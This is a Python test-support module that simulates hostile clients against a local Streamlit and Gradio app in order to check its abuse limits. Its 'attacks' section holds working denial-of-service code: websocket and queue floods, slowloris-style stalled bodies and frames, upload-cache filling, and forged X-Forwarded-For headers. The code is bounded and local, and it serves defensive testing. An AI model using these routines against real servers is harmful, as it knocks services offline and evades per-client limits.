"""Clients of a running server, each from its own loopback source address (127.0.0.2, 127.0.0.3, ...),
so that limits keyed on the client tell them apart: an explorer session over Streamlit's websocket,
an explorer upload, a colorize call over Gradio's HTTP API, and the attacks one hostile visitor could
make. Used by the public-server tests and latent_studio.app.tools.abuse_bench; every loop here is
bounded in count and time, and traffic goes only to the server's own (local) address."""

from __future__ import annotations

import base64
import http.client
import io
import json
import os
import select
import socket
import threading
import time
from urllib.parse import urlparse

from PIL import Image
from streamlit.proto.BackMsg_pb2 import BackMsg
from streamlit.proto.ClientState_pb2 import ClientState
from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
from streamlit.web.server.starlette.starlette_app_utils import generate_xsrf_token_string
from websockets.sync.client import connect as ws_connect

VICTIM = "127.0.0.1"


def attacker(n: int) -> str:
    """The n-th attacker's source address (n >= 1): 127.0.0.2, 127.0.0.3, ..."""
    return f"127.0.0.{n + 1}"


def _target(url: str) -> tuple[str, int]:
    parsed = urlparse(url)
    return parsed.hostname or "127.0.0.1", parsed.port or 80


def connect(url: str, source: str, timeout: float = 30.0) -> socket.socket:
    """A TCP connection to the server from `source`."""
    host, port = _target(url)
    return socket.create_connection((host, port), timeout=timeout, source_address=(source, 0))


class _Connection(http.client.HTTPConnection):
    def __init__(self, url: str, source: str, timeout: float):
        super().__init__(*_target(url), timeout=timeout, source_address=(source, 0))


def request(url: str, source: str, method: str, path: str, body: bytes | None = None, headers: dict | None = None,
            timeout: float = 30.0) -> tuple[int, bytes]:
    """(status, body) of one HTTP request from `source`."""
    conn = _Connection(url, source, timeout)
    try:
        conn.request(method, path, body=body, headers=headers or {})
        response = conn.getresponse()
        return response.status, response.read()
    finally:
        conn.close()


def health(url: str, source: str = VICTIM, timeout: float = 5.0) -> bool:
    try:
        return request(url, source, "GET", "/_stcore/health", timeout=timeout)[0] == 200
    except OSError:
        return False


class Session:
    """An explorer session over Streamlit's websocket, as the page opens one: it runs the script for
    `query` and keeps reading what the server sends (a reader thread drops it, as a closed tab would)."""

    def __init__(self, url: str, source: str, query: str = "", timeout: float = 30.0):
        self.xsrf = generate_xsrf_token_string()
        self.url, self.source, self.query = url, source, query
        self.session_id: str | None = None
        self.finished = threading.Event()
        self.closed = threading.Event()
        host, port = _target(url)
        self.ws = ws_connect(f"ws://{host}:{port}/_stcore/stream", sock=connect(url, source, timeout),
                             subprotocols=["streamlit", self.xsrf], additional_headers={"Cookie": f"_streamlit_xsrf={self.xsrf}"},
                             open_timeout=timeout, max_size=None, ping_interval=None)
        threading.Thread(target=self._read, daemon=True).start()

    def _read(self) -> None:
        try:
            for data in self.ws:
                msg = ForwardMsg.FromString(data)
                kind = msg.WhichOneof("type")
                if kind == "new_session":
                    self.session_id = msg.new_session.initialize.session_id or self.session_id
                elif kind == "script_finished" and msg.script_finished != ForwardMsg.FINISHED_EARLY_FOR_RERUN:
                    self.finished.set()
        except Exception:  # closed by either side: the session is over
            pass
        finally:
            self.closed.set()

    def rerun(self, query: str | None = None) -> None:
        """Ask for a script run (what a page load or a widget change sends)."""
        self.finished.clear()
        self.ws.send(BackMsg(rerun_script=ClientState(query_string=self.query if query is None else query)).SerializeToString())

    def run(self, query: str | None = None, timeout: float = 30.0) -> float:
        """Seconds until a script run finishes (inf: none within `timeout`, or the server closed the session)."""
        start = time.perf_counter()
        try:
            self.rerun(query)
        except Exception:
            return float("inf")
        return time.perf_counter() - start if self.finished.wait(timeout) else float("inf")

    def upload(self, size: int, name: str = "probe", timeout: float = 30.0) -> int:
        """PUT a file of `size` bytes into this session's file boxes, as the page does; the status."""
        boundary = "latentstudioprobe"
        body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"probe.json\"\r\n"
                f"Content-Type: application/json\r\n\r\n").encode() + b"\0" * size + f"\r\n--{boundary}--\r\n".encode()
        headers = {"Content-Type": f"multipart/form-data; boundary={boundary}", "X-Xsrftoken": self.xsrf,
                   "Cookie": f"_streamlit_xsrf={self.xsrf}"}
        try:
            return request(self.url, self.source, "PUT", f"/_stcore/upload_file/{self.session_id}/{name}", body, headers, timeout)[0]
        except OSError:
            return 0

    def close(self) -> None:
        try:
            self.ws.close()
        except Exception:
            pass


def open_session(url: str, source: str, query: str = "", timeout: float = 30.0) -> Session | None:
    """A session whose first run finished (None: refused, or no run within `timeout`)."""
    try:
        session = Session(url, source, query, timeout)
    except Exception:
        return None
    if session.run(timeout=timeout) == float("inf") or session.session_id is None:
        session.close()
        return None
    return session


def small_photo() -> bytes:
    buffer = io.BytesIO()
    Image.new("L", (48, 32), 128).save(buffer, "PNG")
    return buffer.getvalue()


def colorize_body(photo: bytes, model: str = "colorizer") -> bytes:
    url = "data:image/png;base64," + base64.b64encode(photo).decode()
    return json.dumps({"data": [{"url": url, "meta": {"_type": "gradio.FileData"}}, model, 0.5]}).encode()


def upload_to_gradio(url: str, source: str, data: bytes, timeout: float = 30.0) -> tuple[int, bytes]:
    """POST a file to Gradio's upload route, as the page does before a call; (status, answer)."""
    boundary = "latentstudioupload"
    body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"files\"; filename=\"photo.png\"\r\n"
            f"Content-Type: image/png\r\n\r\n").encode() + data + f"\r\n--{boundary}--\r\n".encode()
    return request(url, source, "POST", "/gradio/gradio_api/upload", body, {"Content-Type": f"multipart/form-data; boundary={boundary}"},
                   timeout)


def colorize(url: str, source: str = VICTIM, model: str = "colorizer", timeout: float = 30.0,
             photo: bytes | None = None) -> tuple[float, str]:
    """(seconds, outcome) of one colorize as the page makes it (upload the photo, then call the API
    and read its answer): outcome "ok", or the error."""
    start = time.perf_counter()
    try:
        status, answer = upload_to_gradio(url, source, photo or small_photo(), timeout)
        if status != 200:
            return time.perf_counter() - start, f"upload HTTP {status}: {answer[:200].decode(errors='replace')}"
        payload = {"path": json.loads(answer)[0], "meta": {"_type": "gradio.FileData"}}
        status, answer = request(url, source, "POST", "/gradio/gradio_api/call/colorize",
                                 json.dumps({"data": [payload, model, 0.5]}).encode(), {"Content-Type": "application/json"}, timeout)
        if status != 200:
            return time.perf_counter() - start, f"HTTP {status}: {answer[:200].decode(errors='replace')}"
        event = json.loads(answer)["event_id"]
        status, stream = request(url, source, "GET", f"/gradio/gradio_api/call/colorize/{event}", timeout=timeout)
    except (OSError, ValueError, KeyError, IndexError) as e:
        return time.perf_counter() - start, f"{type(e).__name__}: {e}"
    text = stream.decode(errors="replace")
    outcome = "ok" if "event: complete" in text else text.strip()[-300:]
    return time.perf_counter() - start, outcome


# --- attacks --------------------------------------------------------------------------------------------


def rerun_flood(url: str, source: str, sessions: int = 20, reruns: int = 50, query: str = "") -> list[Session]:
    """`sessions` websocket sessions from one address, each sending `reruns` script runs at once
    (the sessions stay open; close them when done)."""
    opened = []
    for _ in range(sessions):
        try:
            opened.append(Session(url, source, query, timeout=10))
        except Exception:
            break  # refused: this address holds all the sessions it may
    for session in opened:
        for _ in range(reruns):
            try:
                session.rerun()
            except Exception:
                break
    return opened


def held_bodies(url: str, source: str, path: str, declared: int, count: int, send: int, headers: dict | None = None,
                seconds: float = 20.0) -> list[socket.socket]:
    """`count` requests from one address ("METHOD /path") that declare `declared` bytes of body and
    send only the first `send`, then hold their sockets open (a slow, or withheld, body); those the
    server answered or closed come back too. Bounded by `seconds`."""
    held = []
    deadline = time.monotonic() + seconds
    method, target = path.split(" ")
    head = "".join(f"{k}: {v}\r\n" for k, v in (headers or {}).items())
    for _ in range(count):
        if time.monotonic() > deadline:
            break
        try:
            sock = connect(url, source, timeout=5)
        except OSError:
            break
        held.append(sock)
        try:
            sock.sendall(f"{method} {target} HTTP/1.1\r\nHost: localhost\r\n{head}Content-Length: {declared}\r\n\r\n".encode())
            for i in range(0, send, 2**20):
                sock.sendall(b"\0" * min(2**20, send - i))
        except OSError:
            pass  # refused while sending: the server answered, or closed the connection
    return held


def still_held(sock: socket.socket) -> bool:
    """Whether the server still holds a request open: nothing came back on its socket (no answer, no close)."""
    return not select.select([sock], [], [], 0)[0] and sock.fileno() != -1


def upload_cache_fill(url: str, source: str, total: int, piece: int = 16 * 2**20, seconds: float = 30.0) -> tuple[int, list[int]]:
    """Upload `total` bytes of files to Gradio's upload cache from one address, `piece` at a time;
    (bytes accepted, statuses). Bounded by `seconds`."""
    boundary = "latentstudiofill"
    accepted, statuses = 0, []
    deadline = time.monotonic() + seconds
    while accepted < total and time.monotonic() < deadline and len(statuses) < total // piece + 8:
        body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"files\"; filename=\"f.png\"\r\n"
                f"Content-Type: image/png\r\n\r\n").encode() + os.urandom(piece) + f"\r\n--{boundary}--\r\n".encode()
        try:  # new bytes each time: Gradio keeps one copy of identical files
            status, _ = request(url, source, "POST", "/gradio/gradio_api/upload", body,
                                {"Content-Type": f"multipart/form-data; boundary={boundary}"}, timeout=30)
        except OSError:
            status = 0
        statuses.append(status)
        if status == 200:
            accepted += piece
        elif status in (0, 413, 429, 503, 507):
            break
    return accepted, statuses


def noise_photo(side: int = 1400) -> bytes:
    """A photo that costs the colorizer real work (incompressible, so the request carries it all)."""
    import numpy as np

    buffer = io.BytesIO()
    Image.fromarray(np.random.default_rng(0).integers(0, 255, (side, side), dtype=np.uint8)).save(buffer, "PNG")
    return buffer.getvalue()


def queue_flood(url: str, source: str, calls: int = 12, forwarded: str | None = None, model: str = "colorizer",
                photo: bytes | None = None) -> list[int]:
    """`calls` colorize requests joined to the queue at once from one address, each with a forged
    X-Forwarded-For naming another client (`forwarded` + its number) if `forwarded` is given; their
    HTTP statuses (200: queued)."""
    body = colorize_body(photo or noise_photo(), model)
    statuses = []
    for i in range(calls):
        headers = {"Content-Type": "application/json"}
        if forwarded is not None:
            headers["X-Forwarded-For"] = f"{forwarded}{i}"
        try:
            statuses.append(request(url, source, "POST", "/gradio/gradio_api/call/colorize", body, headers, timeout=10)[0])
        except OSError:
            statuses.append(0)
    return statuses


def big_frames(url: str, source: str, frames: int, size: int) -> list:
    """`frames` websocket sessions from one address, each sending one frame of `size` bytes (the
    server buffers a frame whole before it can look at it); the sockets stay open."""
    held = []
    host, port = _target(url)
    for _ in range(frames):
        try:
            ws = ws_connect(f"ws://{host}:{port}/_stcore/stream", sock=connect(url, source, 10), subprotocols=["streamlit"],
                            open_timeout=10, max_size=None, ping_interval=None)
            ws.send(b"\0" * size)
            held.append(ws)
        except Exception:
            break
    return held


def stalled_frame(url: str, source: str, declared: int = 4 * 2**20, sent: int = 1024, timeout: float = 10.0) -> socket.socket:
    """A websocket to the explorer that starts a frame declaring `declared` bytes, sends `sent` of
    them and stops (a slowloris on the websocket: the server buffers a frame until it is whole).
    The open socket is returned; the server ends it when its pings go unanswered."""
    host, port = _target(url)
    sock = connect(url, source, timeout)
    key = base64.b64encode(os.urandom(16)).decode()
    sock.sendall((f"GET /_stcore/stream HTTP/1.1\r\nHost: {host}:{port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                  f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Protocol: streamlit\r\n\r\n").encode())
    answer = b""
    while b"\r\n\r\n" not in answer:
        piece = sock.recv(4096)
        if not piece:
            raise ConnectionError("the server closed the connection during the websocket handshake")
        answer += piece
    status = answer.partition(b"\r\n")[0].decode(errors="replace")
    if status.split()[1:2] != ["101"]:
        raise ConnectionError(f"the websocket was refused: {status}")
    mask = os.urandom(4)  # a client's frames are masked: header, 64-bit length, mask, then the (masked) payload
    sock.sendall(bytes([0x82, 0x80 | 127]) + declared.to_bytes(8, "big") + mask + bytes(sent))
    return sock
